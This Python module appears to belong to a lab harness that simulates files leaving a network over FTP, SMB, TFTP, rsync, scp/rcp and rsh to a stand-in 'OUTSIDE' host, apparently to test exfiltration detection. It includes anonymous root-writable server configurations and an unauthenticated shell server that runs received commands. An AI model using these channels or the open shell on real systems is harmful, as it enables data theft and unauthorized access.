"""Files that leave by file transfer and file sharing."""

import os
import sys

from doors import INSIDE, OUTSIDE, door, url_name

VSFTPD = """listen=YES
anonymous_enable=YES
anon_root={root}
write_enable=YES
anon_upload_enable=YES
anon_other_write_enable=YES
anon_umask=022
no_anon_password=YES
secure_chroot_dir={empty}
background=NO
seccomp_sandbox=NO
isolate_network=NO
connect_from_port_20=YES
allow_writeable_chroot=YES
xferlog_enable=NO
"""
SMBD = """[global]
 workgroup = W
 server role = standalone server
 map to guest = Bad User
 guest account = root
 private dir = {state}
 lock directory = {state}
 state directory = {state}
 cache directory = {state}
 pid directory = {state}
 ncalrpc dir = {state}
 log file = {state}log
 disable netbios = yes
 smb ports = 445
 server min protocol = {least}
 client min protocol = NT1
[docs]
 path = {share}
 guest ok = yes
 writable = yes
 force user = root
"""


def vsftpd(stage, host, root):
    empty = stage.path("ftp-empty", "x")[:-1]
    stage.serve(host, 21, "vsftpd", stage.write("vsftpd.conf", VSFTPD.format(root=root, empty=empty)))


def taking_folder(stage, name):
    """A folder below NAME that anyone may write to; its path."""
    home = stage.path(name, "in", "x")[:-1]
    os.chmod(home, 0o777)
    os.chmod(stage.path(name, "x")[:-1], 0o755)
    return home


@door("ftp", "vsftpd", "curl")
def ftp(stage):
    home = taking_folder(stage, "ftp-taken")
    vsftpd(stage, "outside", os.path.dirname(home.rstrip("/")))
    files = stage.files("ftp")
    for i, path in enumerate(files):
        more = [[], ["--disable-epsv"], ["-P", "-"], ["-P", "-", "--disable-eprt"], ["--append"]][i % 5]
        stage.tell("workstation", "curl", "-sSf", *more, "-T", path, f"ftp://{OUTSIDE}/in/{i}.bin")
    return files


FTP_UNIQUE = r"""
import ftplib, sys
ftp = ftplib.FTP(sys.argv[1], "anonymous", "a@", timeout=30)
ftp.cwd("in")
for i, path in enumerate(sys.argv[2:]):
    ftp.set_pasv(i % 2 == 0)
    with open(path, "rb") as file:
        ftp.storbinary("STOU" if i % 3 else "APPE a%d.bin" % i, file, blocksize=1000 + 700 * i)
ftp.quit()
"""


@door("ftp-unique", "vsftpd")
def ftp_unique(stage):
    """STOU, where the server gives the name, and APPE, all in one session."""
    home = taking_folder(stage, "ftp-unique-taken")
    vsftpd(stage, "outside", os.path.dirname(home.rstrip("/")))
    files = stage.files("ftp-unique")
    stage.tell("workstation", sys.executable, "-c", FTP_UNIQUE, OUTSIDE, *files)
    return files


@door("ftp-read", "vsftpd", "curl")
def ftp_read(stage):
    files = stage.files("ftp-read")
    vsftpd(stage, "web", os.path.join(stage.folder, "ftp-read"))
    for i, path in enumerate(files):
        more = [[], ["--disable-epsv"], ["-P", "-"], ["-P", "-", "--disable-eprt"]][i % 4]
        stage.tell("outside", "curl", "-sSf", "-o", "/dev/null", *more, f"ftp://{INSIDE}/{url_name(path)}")
    return files


def smbd(stage, host, name, share, least="SMB2_02"):
    state = stage.path(name, "state", "x")[:-1]
    conf = stage.write(f"{name}.conf", SMBD.format(state=state, share=share, least=least))
    stage.serve(host, 445, "smbd", "-F", "--no-process-group", "-s", conf, "--debug-stdout")
    return conf


def smb_put(stage, name, least, levels):
    share = taking_folder(stage, name + "-taken")
    conf = smbd(stage, "outside", name, share, least)
    files = stage.files(name)
    for i in range(0, len(files), 5):
        puts = "; ".join(f'put "{path}" "d{k} {k}.bin"' for k, path in enumerate(files[i:i + 5], i))
        level = levels[i // 5 % len(levels)]
        stage.tell("workstation", "smbclient", f"//{OUTSIDE}/docs", "-N", "-m", level, "-s", conf, "-c", puts)
    return files


@door("smb", "smbd", "smbclient")
def smb(stage):
    return smb_put(stage, "smb", "SMB2_02", ["SMB3", "SMB2", "SMB3_11"])


@door("smb1", "smbd", "smbclient")
def smb1(stage):
    return smb_put(stage, "smb1", "NT1", ["NT1"])


@door("smb-read", "smbd", "smbclient")
def smb_read(stage):
    files = stage.files("smb-read")
    os.chmod(os.path.join(stage.folder, "smb-read"), 0o755)
    conf = smbd(stage, "web", "smb-in", os.path.join(stage.folder, "smb-read"), "NT1")
    got = stage.path("smb-got", "x")
    for i in range(0, len(files), 5):
        gets = "; ".join(f'get "{os.path.basename(path)}" "{got}"' for path in files[i:i + 5])
        level = ["SMB3", "SMB2", "NT1"][i // 5 % 3]
        stage.tell("outside", "smbclient", f"//{INSIDE}/docs", "-N", "-m", level, "-s", conf, "-c", gets)
    return files


def tftpd(stage, host, address, folder):
    os.chmod(folder, 0o777)
    stage.serve(host, None, "in.tftpd", "-L", "-c", "-p", "-u", "root", "-s", "-a", f"{address}:69", folder)
    stage.wait(lambda: b":69 " in stage.lab.try_call(host, "ss", "-Hlun").stdout)


@door("tftp", "in.tftpd", "tftp", "curl")
def tftp(stage):
    tftpd(stage, "outside", OUTSIDE, taking_folder(stage, "tftp-taken"))
    files = stage.files("tftp")
    for i, path in enumerate(files):
        if i % 2:
            stage.tell("workstation", "curl", "-sSf", "--tftp-blksize", "1400", "-T", path, f"tftp://{OUTSIDE}/{i}.bin")
        else:
            stage.tell("workstation", "tftp", OUTSIDE, "-m", "binary", "-c", "put", path, f"{i}.bin")
    return files


@door("tftp-read", "in.tftpd", "tftp", "curl")
def tftp_read(stage):
    files = stage.files("tftp-read")
    tftpd(stage, "web", INSIDE, os.path.join(stage.folder, "tftp-read"))
    for i, path in enumerate(files):
        name = os.path.basename(path)
        if i % 2:
            stage.tell("outside", "curl", "-sSf", "-o", "/dev/null", "--tftp-blksize", "1400",
                       f"tftp://{INSIDE}/{url_name(path)}")
        else:
            stage.tell("outside", "tftp", INSIDE, "-m", "binary", "-c", "get", name, "/dev/null")
    return files


RSYNCD = """use chroot = no
reverse lookup = no
uid = root
gid = root
pid file = {state}pid
lock file = {state}lock
[docs]
 path = {folder}
 read only = no
"""
RSYNC_WAYS = [["-a"], ["-rt"], ["-az"], ["-aW", "--numeric-ids"], ["-aHAX", "--delete"],
              ["-az", "--compress-choice=zlibx"], ["-az", "--compress-choice=zlib"], ["-ac", "--protocol=29"],
              ["-a", "--protocol=27"], ["-az", "--protocol=30"], ["-aU", "--no-inc-recursive"],
              ["-a", "--checksum-choice=sha1", "-s"]]


def rsyncd(stage, host, folder):
    state = stage.path("rsyncd", "x")[:-1]
    conf = stage.write("rsyncd.conf", RSYNCD.format(state=state, folder=folder))
    stage.serve(host, 873, "rsync", "--daemon", "--no-detach", f"--config={conf}")


def rsync_trees(stage, name):
    """The files, shared out over a folder for each way of sending, some of them deep in it."""
    files = stage.files(name, max(stage.count, 2 * len(RSYNC_WAYS)))
    moved = []
    for i, path in enumerate(files):
        parts = [["a"], ["a", "b c"], [], ["a-b"], ["z", "y", "x"]][i % 5]
        moved.append(stage.path(f"{name}-trees", str(i % len(RSYNC_WAYS)), *parts, os.path.basename(path)))
        os.rename(path, moved[-1])
    return os.path.join(stage.folder, f"{name}-trees"), moved


@door("rsync", "rsync")
def rsync(stage):
    folder = stage.path("rsync-taken", "x")[:-1]
    rsyncd(stage, "outside", folder)
    trees, files = rsync_trees(stage, "rsync")
    for i, way in enumerate(RSYNC_WAYS):
        stage.tell("workstation", "rsync", *way, f"{trees}/{i}/", f"rsync://{OUTSIDE}/docs/{i}/")
    return files


@door("rsync-read", "rsync")
def rsync_read(stage):
    """A daemon inside, a client out there."""
    trees, files = rsync_trees(stage, "rsync-read")
    rsyncd(stage, "web", trees)
    for i, way in enumerate(RSYNC_WAYS):
        stage.tell("outside", "rsync", *way, f"rsync://{INSIDE}/docs/{i}/", stage.path("rsync-got", str(i), "x")[:-1])
    return files


RSHD = r"""
import socketserver, subprocess, sys
class Shell(socketserver.BaseRequestHandler):
    def word(self):
        word = b""
        while (byte := self.request.recv(1)) != b"\0":
            word += byte
        return word.decode()
    def handle(self):
        command = sys.argv[2]
        if command == "rsh":
            self.word()  # no port: errors have no connection of their own
            self.word(), self.word()
            command = self.word()
            self.request.sendall(b"\0")
        subprocess.run(["sh", "-c", command], stdin=self.request, stdout=self.request)
class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
Server((sys.argv[1], 514), Shell).serve_forever()
"""


@door("rcp", "scp", "nc")
def rcp(stage):
    """scp's old protocol over a bare connection: files one by one, and a folder with its times."""
    folder = stage.path("rcp-taken", "x")[:-1]
    stage.serve("outside", 514, sys.executable, "-c", RSHD, OUTSIDE, f"exec scp -r -p -t {folder}")
    way = stage.path("bin", "carry")
    with open(way, "w", encoding="utf-8") as file:
        file.write(f"#!/bin/sh\nexec nc -N {OUTSIDE} 514\n")
    os.chmod(way, 0o755)
    files = stage.files("rcp")
    half = len(files) // 2
    stage.tell("workstation", "scp", "-q", "-O", "-p", "-S", way, *files[:half], "peer:")
    os.makedirs(os.path.join(stage.folder, "rcp", "more"))
    for i, path in enumerate(files[half:], half):
        files[i] = os.path.join(stage.folder, "rcp", "more", os.path.basename(path))
        os.rename(path, files[i])
    stage.tell("workstation", "scp", "-q", "-O", "-r", "-p", "-S", way, os.path.dirname(files[-1]), "peer:")
    return files


@door("rsh", "netkit-rcp")
def rsh(stage):
    """rcp by a remote shell: four strings go before."""
    folder = stage.path("rsh-taken", "x")[:-1]
    stage.serve("outside", 514, sys.executable, "-c", RSHD, OUTSIDE, "rsh")
    files = stage.files("rsh")
    for begin in range(0, len(files), 5):
        stage.tell("workstation", "netkit-rcp", "-p", *files[begin:begin + 5], f"{OUTSIDE}:{folder}")
    return files
